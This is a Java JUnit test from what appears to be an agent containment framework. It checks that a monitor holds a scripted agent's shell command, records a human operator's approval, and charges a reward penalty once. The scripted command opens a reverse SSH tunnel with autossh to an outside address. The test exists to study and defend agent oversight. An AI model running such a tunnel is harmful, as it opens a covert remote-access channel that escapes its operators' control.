package dev.ale.episode;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.ale.agent.loop.AgentLoop;
import dev.ale.agent.loop.LoopSettings;
import dev.ale.agent.policy.ScriptedPolicy;
import dev.ale.agent.policy.ScriptedPolicy.ScriptedCall;
import dev.ale.agent.tool.Toolbox;
import dev.ale.containment.TestContainment;
import dev.ale.core.episode.Trajectory;
import dev.ale.core.event.SafetyEvent;
import dev.ale.core.event.SafetyEvent.Action;
import dev.ale.core.passport.Passport;
import dev.ale.core.passport.PassportLoader;
import dev.ale.core.task.Task;
import dev.ale.episode.reward.Reward;
import dev.ale.episode.reward.Rewards;
import dev.ale.episode.trajectory.TrajectoryJson;
import dev.ale.episode.wire.SchemaSubset;
import dev.ale.monitor.hold.Hold;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.OptionalLong;
import java.util.concurrent.atomic.AtomicBoolean;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.within;

/** A held command inside a whole episode: the trajectory carries the hold and its decision, and the reward charges the act once. */
@Tag("root")
class HeldEpisodeTest {

    @RegisterExtension
    static final TestContainment containment = new TestContainment();
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path dir;

    private static final Passport HOLD_TUNNELS = PassportLoader.parse("""
            id: held-episode
            detectors:
              tunnel: {action: hold, penalty: 0.7}
            hold: {deadline: 60s}
            """, "held-episode.yaml");

    @Test
    void theTrajectoryCarriesTheHeldActAndWhoDecidedAndTheRewardChargesItOnce() throws Exception {
        Task task = SumTask.in(dir, HOLD_TUNNELS, "echo 6 >> numbers.txt\n");
        ScriptedPolicy policy = ScriptedPolicy.ofCalls("scripted", List.of(
                new ScriptedCall("shell", "{\"command\":\"sh -c 'sleep 4; autossh -M 0 -R 9000:localhost:22 agent@203.0.113.9'; true\"}")));
        AtomicBoolean stop = new AtomicBoolean();
        // the operator: approves the first hold it sees
        Thread operator = Thread.ofVirtual().start(() -> {
            while (!stop.get()) {
                for (Hold h : containment.containment().holds().list()) {
                    if (h.isPending() && h.episodeId().orElse("").equals("ep-held")) containment.containment().holds().approve(h.id(), "erin");
                }
                try {
                    Thread.sleep(50);
                } catch (InterruptedException e) {
                    return;
                }
            }
        });
        Trajectory t;
        try {
            EpisodeRunner runner = new EpisodeRunner(containment.containment(), new AgentLoop(Toolbox.standard(), LoopSettings.defaults()));
            t = runner.run(task, policy, new EpisodeSpec("ep-held", 0, OptionalLong.of(1)), s -> { });
        } finally {
            stop.set(true);
            operator.join(Duration.ofSeconds(5));
        }

        List<SafetyEvent> held = t.events().stream().filter(e -> e.action() == Action.HOLD).toList();
        List<SafetyEvent> decisions = t.events().stream().filter(SafetyEvent::isHoldDecision).toList();
        assertThat(held).isNotEmpty().allSatisfy(e -> assertThat(e.step()).hasValue(1));
        assertThat(decisions).singleElement().satisfies(d -> {
            assertThat(d.evidence()).containsEntry("decision", "approved").containsEntry("decidedBy", "erin").containsKey("decidedAt");
            assertThat(d.step()).hasValue(1);
        });
        // the approved command ran for four seconds with its argv in view: the sweep saw it, and did not hold it again
        assertThat(t.events()).filteredOn(SafetyEvent::isSameActSeenRunning).isNotEmpty()
                .allSatisfy(e -> assertThat(e.action()).isEqualTo(Action.ALERT));
        Reward reward = Rewards.of(t, task.passport().detectors());
        assertThat(reward.penalty()).as("each held event costs its category's penalty; the decision and the approved act seen running cost nothing")
                .isCloseTo(0.7 * held.size(), within(1e-9));

        JsonNode line = JSON.readTree(TrajectoryJson.line(t, task.passport(), reward));
        assertThat(SchemaSubset.errors(SchemaSubset.schema("trajectory-line.schema.json"), line)).isEmpty();
        assertThat(line.toString()).contains("\"decidedBy\":\"erin\"", "\"action\":\"hold\"");
    }
}
